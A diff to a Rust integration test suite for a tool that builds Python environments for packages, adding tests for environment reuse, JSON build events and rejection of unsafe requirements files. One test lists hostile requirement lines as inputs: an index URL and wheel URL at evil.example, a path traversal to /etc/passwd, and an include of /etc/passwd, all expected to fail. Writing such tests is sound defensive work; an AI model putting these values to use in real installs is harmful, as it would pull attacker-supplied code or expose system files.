@@ -285,6 +285,33 @@ fn upgrade_and_rollback_switch_the_environment_with_the_pack() {
     assert_eq!(python(&active, "import alpha; print(alpha.VERSION)"), "1.0.0");
     run(&env, &cfg, &["activate", "upy@2.0.0"]).success();
     assert_eq!(std::fs::read_link(&active).unwrap(), PathBuf::from("upy-2.0.0"));
+
+    // Another version with the same lock: linked from the one built, not installed again.
+    let v3 = pack(&env, "upy", "2.0.1", "alpha==2.0.0\n");
+    let out = run(&env, &cfg, &["install", v3.to_str().unwrap()]).success();
+    assert!(out.stdout.contains("python environment linked from"), "{}", out.stdout);
+    assert_eq!(python(&envs(&env).join("upy-2.0.1"), "import alpha; print(alpha.VERSION)"), "2.0.0");
+    let out = run(&env, &cfg, &["install", "--force", "--rebuild-env", v3.to_str().unwrap()]).success();
+    assert!(!out.stdout.contains("linked from"), "{}", out.stdout);
+    run(&env, &cfg, &["verify"]).success();
+}
+
+#[test]
+fn a_requirements_file_cannot_name_another_index_or_file() {
+    let env = Env::new();
+    for (name, line) in [
+        ("evilidx", "--index-url http://evil.example/simple/\nalpha\n"),
+        ("evilurl", "alpha @ https://evil.example/alpha.whl\n"),
+        ("evilpath", "../../etc/passwd\n"),
+        ("evilinc", "-r /etc/passwd\n"),
+    ] {
+        let src = pack(&env, name, "1.0.0", line);
+        let out = env.run(&["install", src.to_str().unwrap()]).failure();
+        assert!(out.stderr.contains(&format!("{name}: its environment was not built")), "{}", out.stderr);
+        assert!(out.stderr.contains("requirements.txt"), "{}", out.stderr);
+        assert!(!env.packs().join(format!("{name}-1.0.0")).exists());
+    }
+    assert!(query(&env, "SELECT id FROM installations WHERE status = 'installed'").is_empty());
 }
 
 #[test]
@@ -333,11 +360,16 @@ fn lock_then_sync_locked_offline_on_a_fresh_host_gives_identical_environments_wi
     let o = second
         .cmd()
         .env("HOME", first.tmp.path())
-        .args(["--config", cfg.to_str().unwrap(), "sync", "--locked", "--offline", "--file"])
+        .args(["--json", "--config", cfg.to_str().unwrap(), "sync", "--locked", "--offline", "--file"])
         .arg(&lockfile)
         .output()
         .unwrap();
     assert!(o.status.success(), "{}\n{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
+    // The build's steps are JSON events, from the lock (nothing resolved).
+    let events: Vec<serde_json::Value> =
+        String::from_utf8_lossy(&o.stderr).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let steps: Vec<&str> = events.iter().filter(|e| e["event"] == "env").map(|e| e["step"].as_str().unwrap()).collect();
+    assert!(steps.contains(&"installed") && !steps.contains(&"resolving"), "{events:?}");
     let a = site_packages(&envs(&first).join("locky-1.0.0"));
     let b = site_packages(&envs(&second).join("locky-1.0.0"));
     assert!(!a.is_empty());
